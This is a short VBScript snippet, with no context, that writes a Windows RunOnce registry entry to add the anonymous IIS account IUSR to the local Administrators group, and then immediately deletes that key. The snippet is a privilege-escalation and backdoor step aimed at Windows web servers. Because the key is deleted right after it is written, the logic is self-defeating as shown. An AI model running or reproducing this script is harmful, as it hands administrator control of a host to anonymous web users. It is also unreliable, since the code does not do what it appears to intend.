Set sh = CreateObject("WScript.Shell")
key = "HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\RunOnce\Finish"
sh.RegWrite key, "net localgroup Administrators IUSR /add", "REG_SZ"
sh.RegDelete key
